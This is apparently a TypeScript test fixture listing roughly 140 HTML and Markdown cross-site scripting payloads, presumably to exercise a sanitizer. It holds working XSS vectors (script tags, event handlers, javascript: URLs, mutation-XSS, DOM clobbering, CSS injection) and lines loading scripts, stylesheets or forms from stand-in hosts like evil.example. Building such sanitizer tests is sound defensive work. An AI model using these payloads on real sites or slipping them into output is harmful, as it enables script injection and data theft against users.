// Attacks as attackers write them, one a line.

/** HTML that tries to run, load, cover or overwrite something. */
export const ATTACKS = [
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  ...lines(String.raw`
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<img src=x onerror=alert(1)>
<img/src/onerror=alert(1)>
<img src='x'onerror='alert(1)'>
<img """><script>alert(1)</script>">
<img src=x:alert(1) onerror=eval(src)>
<img src=javascript:alert(1)>
<img src='http://evil.example/x.png'>
<img src='data:image/svg+xml,<svg onload=alert(1)>'>
<img srcset='https://evil.example/x 1x' sizes=1>
<img src='https://a.example/x' usemap=#m ismap>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x>
<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math href='javascript:alert(1)'>x</math>
<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title='</noscript><img src=x onerror=alert(1)>'>
<a href='javascript:alert(1)'>x</a>
<a href=' javascript:alert(1)'>x</a>
<a href='JaVaScRiPt:alert(1)'>x</a>
<a href='jav&#x09;ascript:alert(1)'>x</a>
<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>
<a href='vbscript:msgbox(1)'>x</a>
<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>
<a href='blob:https://a.example/x'>x</a>
<a href='filesystem:https://a.example/x'>x</a>
<a href='file:///etc/passwd'>x</a>
<a href='https://a.example' onclick=alert(1) ping=//evil.example download>x</a>
<a id=config name=config href='#'>x</a>
<form id=test action=javascript:alert(1)><button>x</button></form>
<input autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc='<script>alert(1)</script>'></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<base href=//evil.example/>
<meta http-equiv=refresh content='0;url=javascript:alert(1)'>
<link rel=stylesheet href=//evil.example/x.css>
<style>@import '//evil.example/x.css';</style>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<body onload=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<template><img src=x onerror=alert(1)></template>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<title><img src=x onerror=alert(1)></title>
<noembed><img src=x onerror=alert(1)></noembed>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href='javascript:alert(1)'?>
<custom-element onclick=alert(1)>x
<p onclick=alert(1) class=x id=y data-x=z>x</p>
<p style='background:url(javascript:alert(1))'>x</p>
<p style='background-image:url(//evil.example/x)'>x</p>
<p style='width:expression(alert(1))'>x</p>
<p style='behavior:url(#x)'>x</p>
<p style='-moz-binding:url(//evil.example)'>x</p>
<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>
<p style='color:rgb(url(//evil.example))'>x</p>
<p style='color:\75 rl(x)'>x</p>
<p style='color:red;}</style><script>alert(1)</script>'>x</p>
<p style='font-family:x&quot;;background:url(//evil.example)'>x</p>
<p style='color:/**/red;--x:url(//evil.example)'>x</p>
<p style='list-style:url(//evil.example/x)'><p style='content:url(//evil.example/x)'>x</p>
<p style='color:red;position:absolute;z-index:9;inset:0'>x</p>
<p style='font-size:900px;margin:-900px;transform:scale(9)'>x</p>
<p style="color:red&quot; onmouseover=&quot;alert(1)">x</p>
</div></main><script>alert(1)</script>
</div></main><form action=//evil.example/><button>Send</button></form>
</div><div id=response><img src=x onerror=alert(1)></div>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title></head><body><img src=x onerror=alert(1)>
--><script>alert(1)</script><!--
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" autofocus onfocus=alert(1) x="
x" onerror="alert(1)
javascript:alert(1)
{{constructor.constructor('alert(1)')()}}
&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
<img src=x onerror&#61;alert(1)><img src=x onerror="&#97;lert(1)">
<svg><set attributeName=href to=javascript:alert(1)><a id=x><text>x</text></a></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>
<select><noscript></select><script>alert(1)</script></noscript>
<table><td background=javascript:alert(1)><caption onclick=alert(1)>x</table>
<img name=querySelector><a id=forms><form name=parentNode><input name=attributes></form>
<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>
<video src=x onerror=alert(1) autoplay></video><audio><source src=x onerror=alert(1)></audio>
<link rel=preload as=script href=//evil.example/x.js><link rel=import href=//evil.example/>
<portal src=//evil.example></portal><frameset onload=alert(1)><frame src=javascript:alert(1)>
`),
];

/** Markdown that tries the same. */
export const MARKDOWN_ATTACKS = [
  "[x][1]\n\n[1]: javascript:alert(1)",
  "```html\n<img src=x onerror=alert(1)>\n```",
  "`<script>alert(1)</script>`",
  '```x" onload=alert(1)\ncode\n```',
  "| a |\n|---|\n| <script>alert(1)</script> |",
  ...lines(String.raw`
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<javascript:alert(1)>)
[x](java&#115;cript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](vbscript:x)
<javascript:alert(1)>
![x](https://tracker.example/pixel.png)
![x](javascript:alert(1))
[x](https://a.example "onmouseover=alert(1)")
[x](https://a.example' onclick='alert(1))
# <img src=x onerror=alert(1)>
- [ ] <input onfocus=alert(1)>
`),
];

function lines(text: string): string[] {
  return text.trim().split("\n");
}
